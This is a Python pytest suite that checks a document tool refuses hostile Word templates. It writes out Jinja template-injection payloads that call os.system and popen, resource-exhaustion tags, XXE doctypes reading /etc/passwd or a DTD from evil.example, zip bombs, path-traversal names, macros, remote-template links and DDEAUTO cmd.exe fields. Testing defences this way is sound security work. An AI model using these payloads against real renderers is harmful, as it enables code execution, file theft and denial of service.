"""Templates made to do harm: exit code 4, a sentence for a Word author, nothing written or run."""

import os
import struct
import subprocess
import time
import zipfile
from io import BytesIO

import pytest
from studies import ROOT, example_path
from words import parts_of

WHOLE = {
    name: content.decode()
    for name, content in parts_of((ROOT / "templates" / "plan.en.docx").read_bytes()).items()
}
BODY, LINKS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
HEADER, FOOTER, CORE = "word/header.xml", "word/footer.xml", "docProps/core.xml"
KIND = "application/vnd.openxmlformats-officedocument.wordprocessingml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def packed(parts, method=zipfile.ZIP_DEFLATED):
    made = BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def words(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def before(mark, xml, name=BODY):
    assert mark in WHOLE[name]
    return {name: WHOLE[name].replace(mark, xml + mark, 1)}


def story(kind, content):
    """Return a further part of the document, with its content type."""
    part = f'<w:{kind} xmlns:w="{W}">{content}</w:{kind}>'
    listed = f'<Override PartName="/word/{kind}.xml" ContentType="{KIND}.{kind}+xml"/>'
    return {f"word/{kind}.xml": part, **before("</Types>", listed, TYPES)}


def link(kind, target, owner=LINKS, mode="External"):
    one = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return before("</Relationships>", one, owner)


PLACES = {
    "body": lambda tag: before("<w:sectPr>", words(tag)),
    "header": lambda tag: before("</w:hdr>", words(tag), HEADER),
    "footer": lambda tag: before("</w:ftr>", words(tag), FOOTER),
    "footnote": lambda tag: story("footnotes", f'<w:footnote w:id="1">{words(tag)}</w:footnote>'),
    "text box": lambda tag: before(
        "<w:sectPr>",
        f"<w:p><w:r><w:pict><w:txbxContent>{words(tag)}</w:txbxContent></w:pict></w:r></w:p>",
    ),
    "properties": lambda tag: before("</dc:title>", tag, CORE),
    "comments": lambda tag: story("comments", f'<w:comment w:id="1">{words(tag)}</w:comment>'),
}
CODE = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('touch WITNESS') }}",
    "{{ lipsum.__globals__['os'].popen('touch WITNESS').read() }}",
    "{{ self._TemplateReference__context }}",
    "{{ study.title.__class__.__init__.__globals__ }}",
    "{{ study['title']['__class__'] }}",
    "{{ study.title.text.format.__globals__ }}",
    "{{ study|attr('__class__') }}",
    "{{ img.tpl.write_xml('WITNESS') }}",
    "{% import 'os' as os %}",
    "{% include 'WITNESS' %}",
    "{% macro x() %}{{ caller() }}{% endmacro %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% set x = cycler.__init__ %}{{ x.__globals__ }}",
    "{% if study.title.__class__ %}x{% endif %}",
]
HUGE = [
    "{{ 'a' * 1000000000 }}",
    "{{ 'a'|center(2000000000) }}",
    "{{ range(1000000000)|list }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ lipsum(n=100000000) }}",
    "{% set a = namespace(x='a') %}{% for i in range(99) %}{% set a.x = a.x ~ a.x %}{% endfor %}",
    "{{" * 50_000,
    "{% if study.paid %}" * 5_000,
    "{% for a in visits %}" * 60 + "x" + "{% endfor %}" * 60,
    "{{ " + "(" * 900 + "1" + ")" * 900 + " }}",
]


@pytest.fixture
def refused(run, tmp_path, monkeypatch):
    """Return a function that lints and previews a template, and gives what was said."""

    def never(*_, **__):
        raise AssertionError("a template started a program")

    monkeypatch.setattr(os, "system", never)
    monkeypatch.setattr(subprocess, "Popen", never)
    monkeypatch.chdir(tmp_path)

    def ask(data):
        (tmp_path / "evil.docx").write_bytes(data)
        start = time.monotonic()
        linted = run("template", "lint", "evil.docx")
        done = run("template", "preview", "evil.docx", "--with", example_path("embryo"))
        assert (4, 4) == (linted.exit_code, done.exit_code), linted.out + done.out
        assert {"evil.docx"} == {path.name for path in tmp_path.iterdir()}
        assert time.monotonic() - start < 4
        return done.err

    return ask


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("tag", CODE)
def test_code_in_a_template_is_refused_wherever_it_stands(place, tag, refused):
    assert "template evil.docx" in refused(packed({**WHOLE, **PLACES[place](tag)}))


@pytest.mark.parametrize("tag", HUGE, ids=lambda tag: tag[:30])
def test_a_tag_that_would_never_end_is_refused(tag, refused):
    assert "template evil.docx" in refused(packed({**WHOLE, **PLACES["body"](tag)}))


def test_loops_in_loops_are_stopped(run, tmp_path):
    """A loop in a loop is allowed: only how often it runs is not. So lint has nothing to say."""
    loops = "".join(f"{{% for a{depth} in visits %}}" for depth in range(12))
    tag = loops + "x" * 200 + "{% endfor %}" * 12
    path, to = tmp_path / "evil.docx", tmp_path / "out.docx"
    path.write_bytes(packed({**WHOLE, **PLACES["body"](tag)}))
    start = time.monotonic()
    done = run("template", "preview", path, "--with", example_path("embryo"), "-o", to)

    assert (4, False) == (done.exit_code, to.exists())
    assert "look at its loops" in done.err
    assert time.monotonic() - start < 4


DOCTYPES = {
    "external": '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    "entities": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]>',
}


@pytest.mark.parametrize("doctype", DOCTYPES.values(), ids=DOCTYPES)
@pytest.mark.parametrize("name", [BODY, "word/styles.xml", CORE, LINKS, TYPES])
def test_a_doctype_is_refused_in_every_part(name, doctype, refused):
    start = WHOLE[name].index("?>") + 2
    parts = {**WHOLE, name: WHOLE[name][:start] + doctype + WHOLE[name][start:]}

    assert "a DOCTYPE is not allowed" in refused(packed(parts))


def lying_header():
    data = bytearray(packed({**WHOLE, "word/media/a.png": "a" * 5_000}))
    entry = data.rindex(b"PK\1\2")
    data[entry + 24 : entry + 28] = struct.pack("<I", 10)
    return bytes(data)


def twice(name):
    made = BytesIO(packed(WHOLE))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, "x")
    return made.getvalue()


ARCHIVES = {
    "a bomb": (packed({**WHOLE, "word/media/a.png": bytes(80_000_000)}), "far too much"),
    "many parts": (packed({**WHOLE, **{f"a/{n}": "" for n in range(2_001)}}), "more than 2000"),
    "a lying header": (lying_header(), "damaged"),
    "a way out": (packed({**WHOLE, "../../evil": "x"}), "unsafe"),
    "an absolute name": (packed({**WHOLE, "/etc/evil": "x"}), "unsafe"),
    "a backslash": (packed({**WHOLE, "word\\evil": "x"}), "unsafe"),
    "another case": (twice("WORD/Document.xml"), "stands twice"),
    "another compression": (packed(WHOLE, zipfile.ZIP_LZMA), "Word does not know"),
    "half a file": (packed(WHOLE)[: len(packed(WHOLE)) // 2], "breaks off"),
    "an empty file": (b"", "the file is empty"),
    "a password": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "has a password",
    ),
    "an old Word file": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"),
        "old Word (.doc)",
    ),
}


@pytest.mark.parametrize(("data", "said"), ARCHIVES.values(), ids=ARCHIVES)
def test_an_archive_that_is_none_or_wants_harm_is_refused(data, said, refused):
    assert said in refused(data)


def field(code):
    return before("<w:sectPr>", f'<w:p><w:fldSimple w:instr=" {code} "/></w:p>')


FOREIGN = {
    "macros": ({"word/vbaProject.bin": "x"}, "macros"),
    "a macro-enabled file": (
        {TYPES: WHOLE[TYPES].replace(f"{KIND}.document.main", "application/vnd.ms-word.document.macroEnabled.main")},
        "may hold macros",
    ),
    "an OLE object": ({"word/embeddings/oleObject1.bin": "x"}, "embedded objects"),
    "ActiveX": ({"word/activeX/activeX1.xml": "<a/>"}, "embedded objects"),
    "a linked OLE object": (link("oleObject", "file:///c:/a.xls"), "oleObject"),
    "altChunk": (link("aFChunk", "a.docx", mode="Internal"), "aFChunk"),
    "a remote picture": (link("image", "https://evil.example/a.png"), "outside content"),
    "a subdocument": (link("subDocument", "b.docx"), "subDocument"),
    "a frame": (link("frame", "https://evil.example/"), "frame"),
    "a template on the web": (link("attachedTemplate", "https://evil.example/a.dotm"), "Normal"),
    "a template on a share": (link("attachedTemplate", "\\\\server\\a.dotm"), "Normal"),
    "INCLUDETEXT": (field("INCLUDETEXT c:\\a.docx"), "INCLUDETEXT fetches"),
    "INCLUDEPICTURE": (field("INCLUDEPICTURE http://a/b.png"), "INCLUDEPICTURE fetches"),
    "DDEAUTO": (field("DDEAUTO c:\\\\cmd.exe a"), "DDEAUTO fetches"),
    "DDE": (field("DDE Excel a"), "DDE fetches"),
    "LINK": (field("LINK Excel.Sheet a"), "LINK fetches"),
    "tracked changes": (
        before("<w:sectPr>", '<w:p><w:ins w:id="9" w:author="a"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'),
        "tracked changes",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("parts", "said"), FOREIGN.values(), ids=FOREIGN)
def test_what_could_run_or_fetch_is_refused(parts, said, refused):
    assert said in refused(packed({**WHOLE, **parts}))


def test_a_hyperlink_is_kept(run, tmp_path):
    path, to = tmp_path / "own.docx", tmp_path / "out.docx"
    path.write_bytes(packed({**WHOLE, **link("hyperlink", "https://example.org/")}))
    done = run("template", "preview", path, "--with", example_path("embryo"), "-o", to)

    assert (0, True) == (
        done.exit_code,
        b"https://example.org/" in parts_of(to.read_bytes())[LINKS],
    )


def test_a_local_attached_template_is_left_out_with_a_warning(run, tmp_path):
    target = "file:///C:\\Templates\\Normal.dotm"
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'
    path, to = tmp_path / "own.docx", tmp_path / "out.docx"
    path.write_bytes(packed({**WHOLE, "word/_rels/settings.xml.rels": rels}))
    linted = run("template", "lint", path)
    done = run("template", "preview", path, "--with", example_path("embryo"), "-o", to)

    assert (0, True) == (linted.exit_code, "warning T.attached" in linted.out)
    assert (0, False) == (
        done.exit_code,
        b"Normal.dotm" in b"".join(parts_of(to.read_bytes()).values()),
    )


def test_a_refusal_speaks_chinese(run, tmp_path):
    path = tmp_path / "own.docx"
    path.write_bytes(b"")
    done = run("template", "preview", path, "--with", example_path("draft"), "--messages", "zh")

    assert "模板 own.docx（整个文件）：文件是空的；请重新保存或重新下载\n" == done.err
